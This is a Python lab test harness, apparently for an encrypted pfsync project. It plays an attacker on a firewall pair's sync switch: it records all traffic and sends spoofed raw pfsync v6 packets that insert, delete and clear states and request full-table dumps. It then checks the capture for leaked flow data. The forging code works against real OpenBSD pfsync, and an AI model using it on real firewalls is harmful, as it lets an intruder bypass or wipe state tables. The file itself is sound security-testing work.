# SPDX-License-Identifier: ISC
"""The attacker on the sync switch: records every frame, and forges pfsync from the firewalls.

    mallory = Mallory(pair)                     records from now on
    sent = mallory.forge(1000)                  half to each of the first two, from the other
    seen = mallory.look(secrets(flows))         what the recording reveals
    seen.clear_pfsync, seen.esp, seen.leaks

Program: mallory.py forge --victim ADDRESS --as ADDRESS --count N [--first N] [--step N]
                    [--creators ID,...]
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import re
import socket
import struct
import sys
import time
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from typing import Iterable, Iterator, Sequence

from lab import PYTHON, wait_for

PROGRAM = Path(__file__).resolve()
PROTO_PFSYNC = 240
PAIRING_PORT = 4540  # TCP
# Forged states are flows between these addresses, which are not used otherwise.
FORGED_INSIDE, FORGED_OUTSIDE = "10.66.0.0/16", "198.51.100.66"

# ---- forging: pfsync version 6, byte offsets of OpenBSD's if_pfsync.h r1.65 ------------------

ACTION_CLR, ACTION_UPD_C, ACTION_UPD_REQ, ACTION_DEL, ACTION_DEL_C = 0, 4, 5, 6, 7
ACTION_BUS, ACTION_INS, ACTION_UPD = 10, 13, 14


def full_state(number: int, creator: int, src: str | None = None, dst: str = FORGED_OUTSIDE,
               dport: int = 443, proto: int = 6, answers: str | None = None) -> bytes:
    """An established TCP flow that a receiver would accept as real. answers: another host that
    answers (destination NAT)."""
    state = bytearray(264)
    struct.pack_into("!Q", state, 0, 0x6666000000000000 + number)
    state[8:12] = b"all\0"
    source = socket.inet_aton(src or f"10.66.{number >> 8 & 255}.{number & 255}")
    for key, end in ((24, dst), (64, answers or dst)):  # wire and stack side
        state[key : key + 4] = source
        state[key + 16 : key + 20] = socket.inet_aton(end)
        struct.pack_into("!HH", state, key + 32, 10000 + number, dport)
        state[key + 38] = 2  # AF_INET
    for peer in (104, 136):
        struct.pack_into("!III", state, peer + 8, 1000, 70000, 0)
        struct.pack_into("!H", state, peer + 20, 65535)
        state[peer + 24] = 4  # ESTABLISHED
    struct.pack_into("!III", state, 184, 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF)
    struct.pack_into("!II", state, 196, 10, 3600)
    struct.pack_into("!I", state, 236, creator)
    struct.pack_into("!ii", state, 240, -1, -1)
    state[250:253] = bytes((2, proto, 1))  # AF_INET, TCP, in
    state[255] = 2  # TCP established
    struct.pack_into("!H", state, 260, 0x0002)  # sloppy
    return bytes(state)


def pfsync(action: int, *messages: bytes) -> bytes:
    """A whole packet: header, one section."""
    body = struct.pack("!BBH", action, len(messages[0]) // 4, len(messages)) + b"".join(messages)
    return struct.pack("!BBH", 6, 0, 20 + len(body)) + bytes(16) + body


CREATORS = 0, 1, 0x01000000, 0xDEADBEEF


def forgery(number: int, creators: Sequence[int] = CREATORS) -> bytes:
    """In turn: insert, update, delete, delete all, request everything."""
    creator = creators[number // 10 % len(creators)]
    kind = number % 10
    ident = struct.pack("!QI", 0x6666000000000000 + number, creator)
    if kind == 6:
        return pfsync(ACTION_DEL_C, ident)
    if kind == 7:
        return pfsync(ACTION_CLR, bytes(16) + struct.pack("!I", creator))
    if kind == 8:
        return pfsync(ACTION_UPD_REQ, bytes(12))  # the whole table
    if kind == 9:
        return pfsync(ACTION_BUS, struct.pack("!IIBxxx", creator, 0, 1 + number % 2))
    if kind in (4, 5):
        return pfsync(ACTION_UPD, full_state(number, creator))
    if kind == 3:
        return pfsync(ACTION_DEL, full_state(number, creator))
    return pfsync(ACTION_INS, full_state(number, creator))


def ipv4(source: str, destination: str, payload: bytes, protocol: int = PROTO_PFSYNC,
         ttl: int = 255) -> bytes:
    """The kernel fills in length, id and checksum."""
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0x10, 0, 0, 0x4000, ttl, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(destination)) + payload


def forge(victim: str, name: str, count: int, first: int, step: int,
          creators: Sequence[int]) -> None:
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = 0
    for number in range(first, first + count * step, step):
        sent += raw.sendto(ipv4(name, victim, forgery(number, creators)), (victim, 0)) > 0
        if number % 50 == 49:
            time.sleep(0.01)  # so that none is lost to a full buffer
    print(json.dumps({"sent": sent}))


# ---- analysing the recording -----------------------------------------------------------------


@dataclass
class Seen:
    """What the frames on the switch were (forgeries of mallory's own left out)."""

    frames: int = 0
    ike: int = 0
    esp: int = 0
    clear_pfsync: int = 0
    pairing: int = 0  # of encsync pair, which has no secrets
    arp: int = 0
    vrrp: int = 0
    unheard: int = 0  # ICMP errors that quote IKE or ESP: the other end is not running
    own: int = 0  # sent by mallory
    echoes: int = 0  # ICMP errors that quote a forgery: the answer of a node without the ruleset
    other: Counter = field(default_factory=Counter)  # by the name of the kind
    leaks: list[str] = field(default_factory=list)  # clear bytes of states: what, in which frame

    @property
    def only_ipsec(self) -> bool:
        """Nothing but IKE, ESP, the pairing before them and what a switch needs."""
        return not (self.clear_pfsync or self.leaks or self.other)


def frames(pcap: bytes) -> Iterator[bytes]:
    """The frames of a pcap file; a last one cut short (by a killed tcpdump) is left out."""
    if len(pcap) < 24:
        return
    magic = pcap[:4]
    order = "<" if magic in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1") else ">"
    at = 24
    while at + 16 <= len(pcap):
        length = struct.unpack_from(order + "I", pcap, at + 8)[0]
        if at + 16 + length > len(pcap):
            return
        yield pcap[at + 16 : at + 16 + length]
        at += 16 + length


def _quotes_pfsync(protocol: int, payload: bytes) -> bool:
    return protocol == 1 and payload[:1] == b"\x03" and payload[17:18] == bytes([PROTO_PFSYNC])


def _quotes_ipsec(protocol: int, payload: bytes) -> bool:
    """Port unreachable: the answer of a kernel while no encsyncd runs."""
    quoted = payload[8 + 20 :].ljust(4, b"\0")
    return (protocol == 1 and payload[:2] == b"\x03\x03" and payload[17:18] == b"\x11"
            and not {500, 4500}.isdisjoint(struct.unpack_from("!HH", quoted)))


def _sort(frame: bytes, seen: Seen) -> bool:
    """Counts it. False: it is mallory's own packet, or an echo of it, and reveals nothing."""
    kind = int.from_bytes(frame[12:14], "big")
    if len(frame) < 14 + {0x0800: 20, 0x86DD: 40}.get(kind, 0):
        seen.other["cut short"] += 1
        return True
    if kind == 0x0806:
        seen.arp += 1
        return True
    if kind == 0x0800:
        protocol, payload = frame[23], frame[14 + (frame[14] & 15) * 4 :]
    elif kind == 0x86DD:
        protocol, payload = frame[20], frame[54:]
        if protocol == 0 and len(payload) >= 8:  # hop-by-hop options, as in MLD
            protocol, payload = payload[0], payload[(payload[1] + 1) * 8 :]
    else:
        seen.other[f"ethertype {kind:#06x}"] += 1
        return True
    if _quotes_pfsync(protocol, payload):
        seen.echoes += 1
        return False
    if _quotes_ipsec(protocol, payload):
        seen.unheard += 1
        return True
    if protocol == PROTO_PFSYNC:
        seen.clear_pfsync += 1
    elif protocol == 50:
        seen.esp += 1
    elif protocol == 112:
        seen.vrrp += 1
    elif protocol == 58 and kind == 0x86DD:
        seen.arp += 1  # neighbour discovery, for IPv6 what ARP is for IPv4
    elif protocol == 6 and PAIRING_PORT in struct.unpack_from("!HH", payload.ljust(4, b"\0")):
        seen.pairing += 1
    elif protocol == 17 and len(payload) >= 8:
        ports = struct.unpack_from("!HH", payload)
        body = payload[8:]
        if 500 in ports:
            seen.ike += 1
        elif 4500 in ports and body == b"\xff":
            seen.ike += 1  # NAT keep-alive
        elif 4500 in ports and body[:4] == bytes(4):
            seen.ike += 1
        elif 4500 in ports and len(body) >= 8:
            seen.esp += 1
        else:
            seen.other[f"UDP {ports[0]} to {ports[1]}"] += 1
    elif protocol == 1:
        seen.other[f"ICMP {payload[:40].hex()}"] += 1
    else:
        seen.other[f"IP protocol {protocol}"] += 1
    return True


# Version 6 or 5, pad, a length, and the sixteen zeros of an empty checksum.
PFSYNC_HEADER = re.compile(rb"[\x05\x06]\x00[\x00-\x05].\x00{16}", re.DOTALL)
# Four given bytes occur in ciphertext by chance: once in 4,000 runs of a megabyte each. A real leak
# has dozens of them, so a few do not count.
CHANCE = 3


def secrets(flows: Iterable) -> dict[str, list[bytes]]:
    """The bytes of these flows (conntrack.Flow) in various protocols: address and port in several
    layouts, and addresses alone."""
    exact: set[bytes] = set()
    bare: set[bytes] = set()
    for flow in flows:
        for half in (flow.orig, flow.reply):
            src = ipaddress.ip_address(half.src).packed
            dst = ipaddress.ip_address(half.dst).packed
            sport, dport = struct.pack("!H", half.sport), struct.pack("!H", half.dport)
            exact |= {src + dst, dst + src, src + sport, dst + dport, sport + src, dport + dst,
                      src.ljust(16, b"\0") + dst, dst.ljust(16, b"\0") + src}
            exact |= {half.src.encode() + b" ", half.src.encode() + b'"'}  # as text
            bare |= {src, dst}
    return {"exact": sorted(exact), "bare": sorted(bare)}


def analyse(pcap: bytes, needles: dict[str, list[bytes]], own_mac: str) -> Seen:
    seen = Seen()
    own = bytes.fromhex(own_mac.replace(":", ""))
    exact = re.compile(b"|".join(map(re.escape, needles["exact"]))) if needles["exact"] else None
    bare = re.compile(b"|".join(map(re.escape, needles["bare"]))) if needles["bare"] else None
    bare_hits: list[str] = []
    for number, frame in enumerate(frames(pcap), 1):
        seen.frames += 1
        if frame[6:12] == own:
            seen.own += 1
            continue
        if not _sort(frame, seen):
            continue
        body = frame[14:]
        if hit := PFSYNC_HEADER.search(body):
            seen.leaks.append(f"a pfsync header in frame {number}: {hit[0].hex()}")
        if exact and (hit := exact.search(body)):
            seen.leaks.append(f"an address and port of a flow in frame {number}: {hit[0].hex()}")
        elif bare and (hit := bare.search(body)):
            bare_hits.append(f"an address of a flow in frame {number}: {hit[0].hex()}")
    if len(bare_hits) > CHANCE:
        seen.leaks += bare_hits
    return seen


class Mallory:
    """On the pair's sync switch; records from the start."""

    def __init__(self, pair):
        self.pair, self.node = pair, pair.mallory
        self.pcap = self.node.dir / "sync.pcap"
        # Without -Z tcpdump drops root, and cannot write root's file in root's folder.
        self.tcpdump = self.node.start("tcpdump", "-i", "eth0", "-Z", "root", "-s", "0", "-U", "-n",
                                       "--immediate-mode", "-B", "65536", "-w", self.pcap)
        wait_for(lambda: "listening on" in self.tcpdump.errors(), 10, "tcpdump to listen")
        self.mac = self.node.mac("eth0")

    def forge(self, count: int = 1000) -> int:
        """Sends half of it to each of the first two firewalls, with the other one's source."""
        from pair import SYNC

        mickey, minnie = SYNC["mickey"], SYNC["minnie"]
        sent = 0
        for victim, name, number in ((mickey, minnie, count - count // 2),
                                     (minnie, mickey, count // 2)):
            done = self.node.run(PYTHON, PROGRAM, "forge", "--victim", victim,
                                 "--as", name, "--count", number)
            sent += json.loads(done.stdout)["sent"]
        return sent

    def look(self, needles: dict[str, list[bytes]]) -> Seen:
        return analyse(self.pcap.read_bytes(), needles, self.mac)

    def lost(self) -> int:
        """Ends the recording; returns the number of frames that tcpdump lost to a full buffer."""
        self.tcpdump.stop()
        found = re.search(r"(\d+) packets dropped by kernel", self.tcpdump.errors())
        return int(found[1]) if found else 0


def main() -> None:
    parser = argparse.ArgumentParser(description="forge pfsync packets")
    sub = parser.add_subparsers(required=True).add_parser("forge")
    sub.add_argument("--victim", required=True)
    sub.add_argument("--as", required=True, dest="name")
    sub.add_argument("--count", type=int, required=True)
    sub.add_argument("--first", type=int, default=0)
    sub.add_argument("--step", type=int, default=1)
    sub.add_argument("--creators", default=CREATORS,
                     type=lambda text: [int(each, 16) for each in text.split(",")])
    forge(**vars(parser.parse_args()))


if __name__ == "__main__":
    sys.exit(main())
